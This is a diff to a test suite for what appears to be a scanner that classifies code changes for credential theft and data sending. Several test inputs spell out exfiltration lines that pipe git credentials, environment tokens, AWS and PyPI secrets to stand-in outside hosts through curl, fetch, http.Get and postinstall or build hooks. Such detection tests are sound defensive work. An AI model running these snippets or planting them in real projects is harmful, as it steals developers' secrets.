@@ -27,6 +27,12 @@ describe('readBehaviors', () => {
     expect(kinds("const token = execSync('gh auth token').toString();", 'js')).toEqual(['credential-file', 'execute']);
     expect(kinds('TOKEN=$(gcloud auth print-access-token)', 'shell')).toContain('credential-file');
     expect(kinds('gh auth status', 'shell')).toEqual([]);
+    // git's stored credentials read (not its other settings, nor a helper's name); a CLI's token given to its own service is not a theft.
+    expect(kinds('\t@git config --get-regexp "credential|token" | curl -s -d @- https://hooks.lintcheck.dev/c', 'shell')).toEqual(['credential-file', 'download', 'send']);
+    expect(kinds('\tprintf "host=github.com\\n\\n" | git credential-store get', 'shell')).toEqual(['credential-file']);
+    expect(kinds('\tgit config user.email\n\tgit config --get credential.helper', 'shell')).toEqual([]);
+    expect(kinds('\tcurl -s -H "Authorization: token $$(gh auth token)" https://api.github.com/repos/acme/x/releases -d @release.json', 'shell')).toEqual(['download', 'send']);
+    expect(kinds('\tcurl -s -H "Authorization: token $$(gh auth token)" https://uploads.lintcheck.dev/r -d @release.json', 'shell')).toEqual(['credential-file', 'download', 'send']);
     // The variables named like secrets picked and their values sent, on one line or across a recipe's continued lines.
     expect(kinds('\tfor v in $$(compgen -e | grep -i token); do curl -s "https://c.evil-sink.dev/?$$v=$${!v}"; done', 'shell')).toEqual(['download', 'environment', 'send']);
     expect(kinds('\t@for v in $$(compgen -e | grep -i token); do \\\n\t  echo "$$v=$${!v}" >> /tmp/o; \\\n\tdone; \\\n\tcurl -s -T /tmp/o https://c.evil-sink.dev/u', 'shell')).toEqual(['download', 'environment', 'send']);
@@ -140,6 +146,19 @@ setup(name="pkg", ext_modules=[Extension("pkg._speedups", ["src/speedups.c"])])`
     expect(buildFinding(added('build.rs', 'fn main() {\n    let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();\n    let _ = std::process::Command::new("curl").arg(format!("https://collect.buildstats.dev/k?v={}", key)).status();\n}'))).toMatchObject({ severity: 'critical' });
     // Through a name assigned from it, and through a URL built with it and fetched on a later line.
     expect(buildFinding(added('setup.py', 'import base64, os, urllib.request\ntoken = os.environ["PYPI_TOKEN"]\nenc = base64.b64encode(token.encode()).decode()\nurl = "https://stats.pkgmetrics.net/c?t=%s" % enc\nurllib.request.urlopen(url)'))).toMatchObject({ severity: 'critical' });
+  });
+
+  it('reads a URL built with a held secret and given by its name to a request call (fetch(url), http.Get(u)) as the secret sent (critical)', () => {
+    const withScript = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
+    expect(buildFinding(withScript, added('scripts/setup.js', "const token = process.env.API_TOKEN || '';\nconst url = `https://telemetry.tinted-tools.com/i?k=${token}`;\nfetch(url).catch(() => {});"))).toMatchObject({ severity: 'critical', path: 'scripts/setup.js' });
+    expect(kinds('const url = `https://telemetry.tinted-tools.com/i?k=${process.env.API_TOKEN}`;\nawait axios.get(url);', 'js')).toEqual(['credential-env', 'download', 'send']);
+    expect(kinds('\tkey := os.Getenv("DEPLOY_SECRET")\n\tu := fmt.Sprintf("https://gen.tinted-tools.com/?k=%s", key)\n\thttp.Get(u)', 'go')).toEqual(['credential-env', 'download', 'send']);
+  });
+
+  it('a URL name that holds no secret, or holds a token for its own service, given to a request call is not a secret sent', () => {
+    expect(kinds("const name = process.env.npm_package_name;\nconst url = `https://registry.npmjs.org/${name}`;\nfetch(url).catch(() => {});", 'js')).toEqual([]);
+    expect(kinds('const url = `https://api.github.com/repos/acme/x/releases?access_token=${process.env.GITHUB_TOKEN}`;\nfetch(url);', 'js')).toEqual([]);
+    expect(kinds("const token = process.env.NPM_TOKEN;\nconst url = 'https://registry.npmjs.org/-/whoami';\nfetch(url, { headers: { authorization: `Bearer ${token}` } });", 'js')).toEqual(['credential-env']);
   });
 
   it('a held secret sent to its own service, as a header, to a local host, or a name no secret is given, is not a secret sent', () => {
